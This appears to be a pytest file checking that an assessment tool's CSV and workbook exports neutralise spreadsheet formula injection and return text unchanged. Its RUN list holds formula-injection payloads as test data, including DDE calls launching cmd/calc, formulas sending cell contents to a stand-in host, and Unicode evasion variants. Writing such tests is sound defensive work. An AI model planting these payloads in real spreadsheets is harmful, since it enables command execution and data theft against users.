"""Nothing that somebody wrote runs in a spreadsheet, in any file we write, and everything comes back as it was."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import assessment
from assessment.documents.safe_books import book_of
from assessment.documents.safe_csv import csv_lines, csv_text, harmless, meant
from assessment.documents.workbooks import BookLimits, book_rows
from assessment.framework import load_framework
from assessment.responses import load_responses
from assessment.responses.readers import read_export
from assessment.responses.readers.saving import responses_csv, verbatims_csv
from assessment.systems import read_map
from assessment.systems.formats.writers.saving import written
from assessment.systems.model import map_document

RUN = [
    '=HYPERLINK("http://a.example/?x="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM",
    '+HYPERLINK("http://a.example")',
    "-2+3+cmd|' /C calc'!A0",
    "{=1+1}\n=1+1",
    "={1;2}",
    "=SUM(A1:A9*B1:B9)",
    '=IMPORTXML(CONCAT("http://a.example/?", CONCATENATE(A2:E2)), "//a/a10")',
    '=IMPORTDATA("http://a.example")',
    '=WEBSERVICE("http://a.example/"&A1)',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=LIEN_HYPERTEXTE("http://a.example";"Cliquez")',
    "=A1",
    "=-5",
    "--1+A1",
    "+-+-1+A1",
    "=",
    "=====",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u202f=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u200d=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1f@SUM(1)",
    "\x85=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "﹢1+1",
    '"=1+1"',
    '"=1+1',
    "oui;=1+1",
    "oui; =1+1",
    'oui;"=1+1',
    "oui;;@SUM(1)",
    "oui\t=1+1",
    "oui\n=cmd|' /C calc'!A0;",
    'oui"\n"=1+1',
    "oui\r\n+1+1",
    "oui\r-1+cmd|' /C calc'!A0",
    "oui\n\n \u200b=1+1",
    "oui;\ufeff＝1+1",
    "-5;+A1",
    "-5 %",
    "+33 6 12 34 56 78",
]
"""What a spreadsheet would run; some do in one program only, or after it took away what stands before the sign."""

APOSTROPHES = ["'=1+1", "''=1+1", "oui;'=1+1", "oui\n''@SUM(1)", 'oui","=1+1']
"""They do not run, but look like what we write."""

REST = ["Voirie", "-5", "\u22125", "-0.1", "-0,1", "+3,5", "1e-3", "-1e-3", "-1.5E+10", "-.5", "-", "+", "a=b", "",
        "5 - 3", "a@b.fr", "l'équipe", "'s-Hertogenbosch", "'", "''", "oui ; non", "oui, - non", "Ⅳ"]  # fmt: skip
"""Texts that run nothing: they stay as they are."""

NUMBERS = ["-5", "-0.1", "-0,1", "+3,5", "1e-3", "-1e-3", "-1.5E+10", "-.5"]
BLANK = ' \u00a0\u202f\u3000\u200b\ufeff\u2060\u200d\u202e\x00\x0b\x1f\x85\t\r\n"'


def cut(text: str, separators: str) -> list[str]:
    """Cut a CSV into cells as spreadsheets do: quotation marks count at the beginning of a cell only."""
    cells, place = [], 0
    while place <= len(text):
        cell = ""
        if text[place : place + 1] == '"':
            place += 1
            while place < len(text):
                if text[place] != '"':
                    cell, place = cell + text[place], place + 1
                elif text[place + 1 : place + 2] == '"':
                    cell, place = cell + '"', place + 2
                else:
                    place += 1
                    break
        while place < len(text) and text[place] not in separators + "\r\n":
            cell, place = cell + text[place], place + 1
        cells.append(cell)
        place += 1
    return cells


def runs_in_a_spreadsheet(cell: str) -> bool:
    """Say whether a cell begins with a sign, after what is not seen; numbers and a sign alone do not run."""
    try:
        float(cell.replace(",", "."))
        return False
    except ValueError:
        return cell not in "+-" and cell.lstrip(BLANK)[:1] in tuple("=+-@＝＋－＠﹦﹢")


SEPARATORS = {"English Excel": ",", "French Excel": ";", "pasted": "\t", "LibreOffice": ",;\t"}
PIECES = [*"=+-@＝\t\r\n;,'\" a5", "\u00a0", "\u200b", "=1", "''", "\r\n"]
ANY = st.lists(st.sampled_from(PIECES) | st.characters(codec="utf-8"), max_size=12).map("".join)
LIMITS = BookLimits(10**7, 10**5, 10**5, "sheet_too_large")


def running(file: str) -> list[str]:
    """The cells of a CSV that run in one program or another."""
    return [one for cuts in SEPARATORS.values() for one in cut(file, cuts) if runs_in_a_spreadsheet(one)]


def upload(content: bytes, name: str) -> io.BytesIO:
    """A file as somebody hands it in."""
    file = io.BytesIO(content)
    file.name = name
    return file


@pytest.mark.parametrize("text", [*RUN, *APOSTROPHES])
def test_what_a_spreadsheet_would_run_is_a_text_in_every_program(text):
    assert running(csv_lines([["respondent", "text", "n"], ["p1", text, "-3"], [text, "p2", "4"]])) == []


@pytest.mark.parametrize("text", RUN)
def test_without_us_it_would_run_in_one_of_them(text):
    file = io.StringIO()
    csv.writer(file).writerows([["respondent", "text"], ["p1", text], [text, "p2"]])
    assert running(file.getvalue())


@pytest.mark.parametrize("text", REST)
def test_what_runs_nothing_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_a_negative_number_stays_a_number(text):
    assert cut(csv_lines([["a", text]]), ",")[1] == text


@pytest.mark.parametrize("text", [*RUN, *APOSTROPHES, *REST])
def test_a_text_comes_back_as_it_was(text):
    assert meant(harmless(text)) == text


@settings(deadline=None)
@given(ANY)
def test_any_text_comes_back_as_it_was(text):
    assert meant(harmless(text)) == text


@settings(deadline=None)
@given(st.lists(st.lists(ANY, min_size=2, max_size=3), min_size=1, max_size=3))
def test_no_text_runs_whatever_it_is_made_of(rows):
    assert running(csv_lines([["a", "b"], *([f"p{number}", *row] for number, row in enumerate(rows))])) == []


@settings(deadline=None)
@given(st.lists(st.lists(ANY, min_size=2, max_size=2), min_size=1, max_size=3))
def test_a_csv_reader_reads_what_was_written(rows):
    read = list(csv.reader(io.StringIO(csv_lines(rows), newline="")))
    assert [[meant(cell) for cell in row] for row in read] == rows


def test_a_row_of_one_empty_cell_is_a_row():
    assert csv_lines([["a"], [""], ["b"]]) == 'a\n""\nb\n'


@pytest.mark.parametrize("number", [-0.1, 1 / 3, -12, 1e-17, 1e22])
def test_a_number_is_never_changed(number):
    assert float(csv_text(["x"], [{"x": number}]).splitlines()[1]) == number


SHEET = [["name", *REST], *([text, -5, -0.1, 1e-3, text, "-5", True] for text in [*RUN, *APOSTROPHES])]


def test_a_workbook_holds_no_formula_and_no_link_and_numbers_are_numbers():
    with zipfile.ZipFile(io.BytesIO(book_of([("Feuille", SHEET)]))) as book:
        assert [name for name in book.namelist() if "externalLink" in name or "sheet1.xml.rels" in name] == []
        page, styles = book.read("xl/worksheets/sheet1.xml").decode(), book.read("xl/styles.xml").decode()
    assert not re.search(r"<f[ >/]|hyperlink", page)
    cells = re.findall(r'<c r="([A-Z]+)\d+"[^>]*?(?: t="(\w+)")?><v>', page)
    kinds = {column: {kind for one, kind in cells[len(REST) :] if one == column} for column in "ABCDEFG"}
    text, number, truth = {"s"}, {""}, {"b"}
    assert kinds == {"A": text, "B": number, "C": number, "D": number, "E": text, "F": text, "G": truth}
    assert 'quotePrefix="1"' in styles  # whoever edits such a cell still has a text


def test_a_workbook_comes_back_as_it_was():
    (_, rows), *_ = book_rows(book_of([("Feuille", SHEET)]), "a.xlsx", LIMITS)
    assert [row[: len(kept)] for row, kept in zip(rows, SHEET, strict=True)] == SHEET


@settings(deadline=None)
@given(ANY)
def test_any_text_comes_back_from_a_workbook(text):
    # calamine writes every line end as \n, as XML does
    text = text.replace("\r", "").strip("\x00")
    (_, rows), *_ = book_rows(book_of([("a", [["x", text]])]), "a.xlsx", LIMITS)
    assert rows[0][1:] == [text] * bool(text) or "\ufffe" <= max(text) <= "\uffff"


@pytest.fixture(scope="module")
def framework():
    return load_framework("collectivite-apprenante")


READ = [text for text in [*RUN, *APOSTROPHES, *REST] if "\0" not in text and text]
"""A file with a zero in it is no text."""

KEPT = [text.strip() for text in READ]
"""Blanks around a name are not kept."""


@pytest.fixture(scope="module")
def responses(framework):
    table = pd.DataFrame({"respondent": [f"p{n}" for n in range(len(READ))], "unit": READ, "wave": "2026"})
    table = table.assign(**{"=1+1": READ[::-1], "a;+1": READ, "pm_01.reality": "3"})
    file = upload(csv_lines([table.columns, *table.itertuples(index=False)]).encode(), "a.csv")
    return load_responses(file, framework)


def test_responses_run_nothing_and_are_read_as_they_were(responses, framework):
    content = responses_csv(responses, framework)
    assert running(content.decode()) == []
    assert responses["unit"].tolist() == KEPT
    assert responses["=1+1"].tolist() == KEPT[::-1]
    pd.testing.assert_frame_equal(load_responses(upload(content, "a.csv"), framework), responses)
    assert responses_csv(load_responses(upload(content, "a.csv"), framework), framework) == content


def test_responses_of_ours_are_imported_as_they_were(responses, framework):
    found = read_export(upload(responses_csv(responses, framework), "a.csv"), framework)
    assert found.responses["unit"].tolist() == KEPT


def test_what_people_wrote_runs_nothing_and_is_read_as_it_was():
    texts = [*RUN, *APOSTROPHES, *REST]
    file = verbatims_csv(pd.DataFrame({"respondent": "p1", "question": texts, "text": texts}))
    assert running(file) == []
    read = list(csv.DictReader(io.StringIO(file, newline="")))
    assert [meant(row["text"]) for row in read] == [meant(row["question"]) for row in read] == texts


LABELS = [text for text in [*RUN, *APOSTROPHES] if not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\r]", text)]
"""A map holds no control characters."""


@pytest.fixture(scope="module")
def graph():
    actors = [
        {"id": f"a{n}", "label": text, "unit": text, "role": text, text: [text], "own": text, "influence": 0.5}
        for n, text in enumerate(LABELS)
    ]
    ties = [
        {"id": f"t{n}", "source": "a0", "target": "a1", "kind": text, "note": text} for n, text in enumerate(LABELS)
    ]
    variables = [{"id": f"v{n}", "label": text, "note": text} for n, text in enumerate(LABELS)]
    causal = {"id": "c", "source": "v0", "target": "v1", "kind": "causes", "polarity": "-", "weight": 0.5}
    return {"format": "apprenance-map", "version": 1, "name": "=1+1", "actors": actors, "variables": variables,
            "ties": [*ties, causal], "participants": [], "loops": []}  # fmt: skip


@pytest.mark.parametrize("name", ["a.csv", "a.matrix.csv"])
def test_a_map_as_a_sheet_runs_nothing(graph, name):
    content, _ = written(graph, name)
    assert running(content.decode()) == []
    assert "-0.5" in cut(content.decode(), ",") or name == "a.csv"


@pytest.mark.parametrize("name", ["a.xlsx", "a.kumu.xlsx"])
def test_a_map_as_a_workbook_holds_texts(graph, name):
    content, _ = written(graph, name)
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        pages = [book.read(one).decode() for one in book.namelist() if "worksheets/" in one and one.endswith(".xml")]
    assert not any(re.search(r"<f[ >/]|hyperlink|t=\"str\"", page) for page in pages)


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_a_map_comes_back_as_it_was(graph, name):
    content, _ = written(graph, name)
    back = map_document(read_map(upload(content, name)).graph)
    for block in ("actors", "variables", "ties"):
        assert [dict(one) for one in back[block]] == graph[block]


CALLS = re.compile(
    r"csv\.(writer|DictWriter)|to_csv|to_excel|ExcelWriter|import xlsxwriter|import openpyxl|write_csv\("
)
PENS = {
    "documents/safe_books.py",
    "responses/writers/redcap.py",
    "responses/writers/xlsform.py",
    "systems/formats/writers/tables.py",
}
"""The module that drives XlsxWriter; a map's own ``write_csv``, which is made of `csv_lines`; two questionnaires, whose
tools take every cell as it stands (an apostrophe would be asked): XLSForm writes texts as texts, REDCap a blank before.
"""


def test_every_module_that_writes_a_sheet_goes_through_documents():
    house = Path(assessment.__file__).parent
    found = {
        path.relative_to(house).as_posix() for path in house.rglob("*.py") if CALLS.search(path.read_text("utf-8"))
    }
    assert found == PENS
